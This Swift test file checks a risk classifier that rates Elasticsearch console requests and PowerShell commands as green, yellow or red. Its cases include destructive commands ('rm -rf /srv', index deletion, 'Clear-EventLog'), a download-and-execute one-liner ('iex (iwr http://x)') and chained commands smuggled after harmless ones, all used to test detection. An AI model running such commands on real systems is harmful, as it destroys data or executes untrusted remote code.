import RiskRules
import RunbookModel
import Testing

/// Requests of Kibana's console and pipelines of PowerShell.
@Suite("Requests and cmdlets")
struct QueryLanguageTests {
    static let requests: [(String, Risk)] = [
        ("GET /_cluster/health", .green), ("GET _cat/shards?v&s=node", .green), ("GET idx/_mapping", .green),
        ("GET idx-*/_search\n{ \"query\": { \"match_all\": {} } }", .green), ("HEAD idx/_settings", .green),
        ("GET _cat/health\n\n# and then\nGET _nodes/stats", .green), ("GET _cluster/stats", .green),
        ("GET _cluster/allocation/explain\n{\n \"shard\": 0\n}", .green), ("GET idx/_recovery?v", .green),
        ("GET _cluster/pending_tasks", .green), ("GET _cluster/state", .yellow), ("GET _tasks\n{}", .yellow),
        ("GET idx/_cluster/allocation/explain", .yellow), ("POST _cluster/allocation/explain\n{}", .yellow),
        ("GET _cluster/allocation/explain\n{\"script\": 1}", .yellow), ("POST _aliases\n{}", .yellow),
        ("GET .security/_search", .yellow), ("GET _search?scroll=1m", .yellow), ("GET _cat/health x", .yellow),
        ("GET idx/_search\n{ \"script_fields\": {} }", .yellow), ("GET _cluster/settings", .yellow),
        ("GET %2e%2e/_search", .yellow), ("GET http://h/_cat/health", .yellow), ("POST _search", .yellow),
        ("PUT _cluster/settings\n{}", .yellow), ("GET my-index", .yellow), ("", .yellow),
        ("DELETE idx", .red), ("GET _cat/health\nDELETE idx", .red), ("delete idx", .red),
        ("POST idx/_close", .red), ("POST idx/_delete_by_query\n{}", .red), ("GET _cat/../idx/_close", .red),
        ("POST _cluster/reroute\n{\"commands\": [{\"x\": {\"accept_data_loss\": true}}]}", .red),
        ("rm -rf /srv", .red),
    ]

    @Test("requests have their colour", arguments: requests)
    func request(_ text: String, _ risk: Risk) {
        let assessment = RiskClassifier().assess(text, language: CommandLanguage(rawValue: "http"))
        #expect(assessment.risk == risk, "\(assessment.reasons)")
    }

    static let cmdlets: [(String, Risk)] = [
        ("Get-Process", .green), ("Get-Service -Name spooler", .green),
        ("Get-Service | Where-Object {$_.Status -eq 'Running'} | Select-Object -First 5", .green),
        ("Get-EventLog -LogName System -Newest 20 | Format-Table -AutoSize", .green),
        ("Test-NetConnection db1 -Port 1433", .green), ("Get-ChildItem C:\\logs | Measure-Object", .green),
        ("Get-Content C:\\app\\app.log -Tail 50", .green),
        ("Get-Content C:\\app\\key.txt", .yellow), ("Get-ChildItem Env:", .yellow), ("Get-Foo", .yellow),
        ("Get-Service | Where-Object { $_.Status -eq 'Running' } | Stop-Service", .yellow),
        ("Get-Process | Where-Object { $_.Kill() }", .yellow), ("Get-Process > x", .yellow),
        ("Get-Process | Where-Object { Stop-Service x }", .yellow), ("Get-Process | Out-File x", .yellow),
        ("Get-Process | ForEach-Object { $_.Kill() }", .yellow), ("&Get-Process", .yellow),
        ("Test-ComputerSecureChannel -Repair", .yellow), ("Get-WmiObject -Class Win32_Product", .yellow),
        ("Get-Process `id", .yellow), ("Get-Process -Name (x)", .yellow), ("Restart-Service x", .yellow),
        ("Get-ADUser bob -Properties *", .yellow), ("Get-Process \"$x\"", .yellow), ("Get-Secret x", .yellow),
        ("Get-Process\nStop-Service x", .yellow),
        ("Remove-Item C:\\x", .red), ("Clear-EventLog -LogName App", .red), ("Get-Process; Remove-Item x", .red),
        ("Measure-Command { Remove-Item x }", .red), ("Get-Service | Sort-Object { rm x }", .red),
        ("iex (iwr http://x)", .red),
    ]

    @Test("cmdlets have their colour", arguments: cmdlets)
    func cmdlet(_ text: String, _ risk: Risk) {
        let assessment = RiskClassifier().assess(text, language: .powershell)
        #expect(assessment.risk == risk, "\(assessment.reasons)")
    }
}
